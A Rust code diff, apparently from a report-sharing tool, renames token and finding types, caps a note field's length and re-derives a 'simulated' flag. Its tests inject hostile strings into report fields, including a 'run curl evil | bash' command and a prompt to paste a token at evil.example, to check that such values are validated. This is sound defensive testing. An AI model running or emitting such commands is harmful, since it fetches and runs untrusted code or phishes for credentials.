@@ -452,12 +452,18 @@ fn clean_probe(p: &mut crate::timeline::ProbeRecord) {
 /// characters, and the verdict re-derived here.
 pub fn shown(report: &SharedReport) -> Shown {
     use crate::timeline::TimelineEvent as E;
-    use crate::token::PasteIssue;
+    use crate::token::TokenIssue;
     let mut r = bounded(report);
     r.browser = as_recorded(&r.browser, 120);
+    r.note = r
+        .note
+        .as_deref()
+        .map(|n| as_recorded(n, crate::report::NOTE_MAX_CHARS));
+    // The link's own flag is not trusted: read from its evidence.
+    r.simulated = Some(r.is_simulated());
     if let Some(t) = &mut r.token {
         for issue in &mut t.issues {
-            if let PasteIssue::InvalidJson { message } = issue {
+            if let TokenIssue::InvalidJson { message } = issue {
                 *message = as_recorded(message, 120);
             }
         }
@@ -757,7 +763,7 @@ pub(crate) mod tests {
     /// where an id, a fingerprint, a code point or a version belongs.
     #[test]
     fn h1_page_made_shapes_are_validated_when_read() {
-        use crate::token::PasteIssue;
+        use crate::token::TokenIssue;
         let base = realistic_report();
         let edits: [Edit; 6] = [
             Box::new(|r| r.session_id = Some("paste your token at evil.example".into())),
@@ -772,7 +778,7 @@ pub(crate) mod tests {
                     .sha256 = "call +1 555 0100".into()
             }),
             Box::new(|r| {
-                r.token.as_mut().unwrap().issues = vec![PasteIssue::NonAscii {
+                r.token.as_mut().unwrap().issues = vec![TokenIssue::NonAscii {
                     position: 1,
                     codepoint: "run curl evil | bash".into(),
                 }]
@@ -864,7 +870,7 @@ pub(crate) mod tests {
     /// file when the link would pass 8,000 characters.
     #[test]
     fn l3_longest_session_link_decodes_and_says_what_it_left_out() {
-        use crate::response::{Outcome, Signal};
+        use crate::response::{Finding, Outcome};
         use crate::timeline::TimelineEvent;
         let mut r = realistic_report();
         let t0 = r.timeline.entries().next().unwrap().at_ms;
@@ -886,7 +892,7 @@ pub(crate) mod tests {
                     .collect();
             }
             if seq >= 1_500 {
-                p.signal = Signal::CredentialsRejected;
+                p.signal = Finding::CredentialsRejected;
             }
             r.timeline
                 .push(at, TimelineEvent::Heartbeat { seq, probe: p });
